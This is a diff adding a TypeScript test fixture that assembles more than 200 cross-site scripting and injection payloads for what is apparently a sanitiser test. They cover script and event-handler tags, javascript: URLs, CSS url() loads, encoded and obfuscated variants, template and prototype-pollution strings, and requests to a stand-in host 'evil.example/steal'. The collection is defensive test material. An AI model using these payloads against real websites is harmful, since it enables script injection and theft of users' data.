@@ -1,0 +1,133 @@
+/** What a payload calls when it runs, and where it sends what it stole. A test watches both. */
+export const hostileFlag = 'plauditBroken'
+export const hostileOrigin = 'https://evil.example'
+
+const run = `${hostileFlag}=1`
+const steal = `${hostileOrigin}/steal`
+
+const endings = [
+  '',
+  '">',
+  "'>",
+  '-->',
+  '</title>',
+  '</textarea>',
+  '</style>',
+  '</script>',
+  '</template>',
+  '</noscript>',
+  '</blockquote></li></ul>',
+  ']]>',
+]
+const elements = [
+  `<script>${run}</script>`,
+  `<ScRiPt >${run}</sCrIpT>`,
+  `<img src=x onerror=${run}>`,
+  `<img src="${steal}">`,
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<details open ontoggle=${run}>`,
+  `<link rel=stylesheet href=${steal}>`,
+  `<style>@import url(${steal})</style>`,
+]
+const attributes = [
+  `" onmouseover="${run}" x="`,
+  `' onfocus='${run}' autofocus x='`,
+  `" autofocus onfocus=${run} x="`,
+  `\` onerror=${run} x=\``,
+  `" style="background:url(${steal})" x="`,
+  `x" src="${steal}`,
+  `"><base href="${hostileOrigin}/">`,
+  `" srcdoc="<script>${run}</script>" x="`,
+  `"/onload=${run}//`,
+  `x onerror=${run} `,
+]
+const scripts = [
+  `";${run};//`,
+  `';${run};//`,
+  `\`;${run};//`,
+  '${' + run + '}',
+  `\\";${run};//`,
+  `\\';${run};//`,
+  `});${run};({`,
+  `})({});${run};(()=>{`,
+  `\u2028${run}//`,
+  `\u2029${run}//`,
+  `*/${run}/*`,
+  `//\n${run}`,
+  `<!--\n${run}`,
+  `--></script><script>${run}</script>`,
+  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+  `"}]}</script><script>${run}</script>`,
+  `","__proto__":{"${hostileFlag}":1},"x":"`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${alert(1)}`,
+  `#{${run}}`,
+]
+const addresses = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `java\tscript:${run}`,
+  `java\nscript:${run}`,
+  ` javascript:${run}`,
+  `\u0001javascript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `vbscript:${run}`,
+  steal,
+  `//evil.example/steal`,
+  `https:evil.example/steal`,
+  `\\\\evil.example\\steal`,
+  `blob:${steal}`,
+  `view-source:${steal}`,
+  `javascript://%0a${run}`,
+]
+const styles = [
+  `red;background:url(${steal})`,
+  `red}*{background:url(${steal})}`,
+  `url(${steal})`,
+  `expression(${run})`,
+  `red;}@import url(${steal});x{`,
+  `#fff/*`,
+  `*/}body{background:url(${steal})}/*`,
+  `var(--x,url(${steal}))`,
+  `image-set("${steal}" 1x)`,
+  `\\75rl(${steal})`,
+  `;--x:url(${steal})`,
+  `red!important;position:fixed;inset:0`,
+  `attr(data-x url)`,
+  `</style><img src=${steal}>`,
+  `";}</style><script>${run}</script>`,
+]
+const encoded = [
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&#60;script&#62;${run}&#60;/script&#62;`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  `&quot;&gt;&lt;img src=x onerror=${run}&gt;`,
+  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
+  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+  `＜script＞${run}＜/script＞`,
+  `<\u200bscript>${run}</script>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<<script>${run}//<</script>`,
+  `<img/src=x/onerror=${run}//`,
+  `<a href="&#106;avascript:${run}">x</a>`,
+  `<math><mtext><img src=x onerror=${run}>`,
+  `<svg><animate onbegin=${run} attributeName=x>`,
+  `<svg><style><img src=x onerror=${run}></style></svg>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<form><button formaction="javascript:${run}">x</button></form>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<meta http-equiv=refresh content="0;url=${steal}">`,
+]
+
+/** More than 200 texts that try to run, to load something from elsewhere, or to break out of where they stand. */
+export const hostilePayloads: readonly string[] = [
+  ...endings.flatMap((ending) => elements.map((element) => ending + element)),
+  ...attributes,
+  ...scripts,
+  ...addresses,
+  ...styles,
+  ...encoded,
+]
